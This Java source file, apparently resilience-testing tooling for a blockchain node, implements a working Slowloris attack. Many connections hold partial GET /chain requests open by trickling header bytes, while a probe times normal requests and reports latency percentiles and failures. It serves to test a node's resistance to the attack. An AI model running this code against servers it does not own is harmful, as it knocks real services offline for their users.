package dev.blockdesk.app;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Slowloris against a node, and a normal client beside it: {@code slow} connections each send a
 * request line and then one header byte every {@code interval} (reopened when the node closes
 * them, as the attack does), while the probe asks for {@code GET /chain} on a new connection, one
 * after another, and times each answer.
 */
final class SlowlorisLoad {

    private static final int CONNECT_MILLIS = 500;

    private final URI url;
    private final int slow;
    private final long intervalMillis;
    private final long probeTimeoutMillis;
    private final AtomicLong reopened = new AtomicLong();
    private final AtomicLong openFailures = new AtomicLong();

    SlowlorisLoad(URI url, int slow, long intervalMillis, long probeTimeoutMillis) {
        this.url = url;
        this.slow = slow;
        this.intervalMillis = intervalMillis;
        this.probeTimeoutMillis = probeTimeoutMillis;
    }

    /** What the probe saw: answer times of the answered ones, in ms, and how many were not answered. */
    record Result(
            double[] answeredMillis, int unanswered, int refused, int slowOpen, long reopened, long openFailures) {

        double percentile(double p) {
            if (answeredMillis.length == 0) {
                return Double.NaN;
            }
            double[] sorted = answeredMillis.clone();
            Arrays.sort(sorted);
            return sorted[Math.min(sorted.length - 1, (int) Math.ceil(p / 100 * sorted.length) - 1)];
        }
    }

    Result run(double seconds) throws InterruptedException {
        List<Socket> sockets = new ArrayList<>();
        for (int i = 0; i < slow; i++) {
            sockets.add(open());
        }
        AtomicBoolean running = new AtomicBoolean(true);
        Thread trickler = new Thread(() -> trickle(sockets, running), "slowloris-trickle");
        trickler.setDaemon(true);
        trickler.start();
        Thread.sleep(Math.min(intervalMillis, 2_000)); // every slow connection has begun its request

        List<Double> answered = new ArrayList<>();
        int unanswered = 0;
        int refused = 0;
        long deadline = System.nanoTime() + (long) (seconds * 1e9);
        while (System.nanoTime() < deadline) {
            long start = System.nanoTime();
            int status = probe();
            double millis = (System.nanoTime() - start) / 1e6;
            if (status == 200) {
                answered.add(millis);
            } else if (status > 0) {
                refused++;
            } else {
                unanswered++;
            }
            Thread.sleep(200);
        }
        running.set(false);
        trickler.join();
        int open = 0;
        synchronized (sockets) {
            for (Socket socket : sockets) {
                open += socket != null && !socket.isClosed() ? 1 : 0;
                close(socket);
            }
        }
        return new Result(
                answered.stream().mapToDouble(Double::doubleValue).toArray(),
                unanswered,
                refused,
                open,
                reopened.get(),
                openFailures.get());
    }

    /** A normal GET /chain on a new connection: the status, or 0 when no answer came within the probe's timeout. */
    private int probe() {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(url.getHost(), url.getPort()), (int) probeTimeoutMillis);
            socket.setSoTimeout((int) probeTimeoutMillis);
            OutputStream out = socket.getOutputStream();
            out.write(("GET /chain HTTP/1.1\r\nHost: " + url.getHost() + ":" + url.getPort()
                            + "\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = socket.getInputStream();
            byte[] head = in.readNBytes(12);
            int status = head.length == 12 ? Integer.parseInt(new String(head, 9, 3, StandardCharsets.US_ASCII)) : 0;
            in.transferTo(OutputStream.nullOutputStream()); // the whole answer, to the server's close
            return status;
        } catch (IOException | NumberFormatException e) {
            return 0;
        }
    }

    private Socket open() {
        Socket socket = new Socket();
        try {
            socket.connect(new InetSocketAddress(url.getHost(), url.getPort()), CONNECT_MILLIS);
            socket.getOutputStream()
                    .write(("GET /chain HTTP/1.1\r\nHost: " + url.getHost() + "\r\nX-Slow-")
                            .getBytes(StandardCharsets.US_ASCII));
            return socket;
        } catch (IOException e) {
            openFailures.incrementAndGet();
            close(socket);
            return null;
        }
    }

    /** One more header byte on every slow connection each interval; one the node closed is opened again. */
    private void trickle(List<Socket> sockets, AtomicBoolean running) {
        while (running.get()) {
            long next = System.nanoTime() + intervalMillis * 1_000_000;
            for (int i = 0; i < sockets.size() && running.get(); i++) {
                Socket socket;
                synchronized (sockets) {
                    socket = sockets.get(i);
                }
                boolean alive = socket != null;
                if (alive) {
                    try {
                        socket.getOutputStream().write('x');
                        socket.getOutputStream().flush();
                    } catch (IOException e) {
                        alive = false;
                        close(socket);
                    }
                }
                if (!alive) {
                    Socket again = open();
                    reopened.incrementAndGet();
                    synchronized (sockets) {
                        sockets.set(i, again);
                    }
                }
            }
            long wait = (next - System.nanoTime()) / 1_000_000;
            if (wait > 0) {
                try {
                    Thread.sleep(wait);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                    return;
                }
            }
        }
    }

    private static void close(Socket socket) {
        if (socket == null) {
            return;
        }
        try {
            socket.close();
        } catch (IOException e) {
            // closing a socket we are done with: nothing to do about it
        }
    }
}
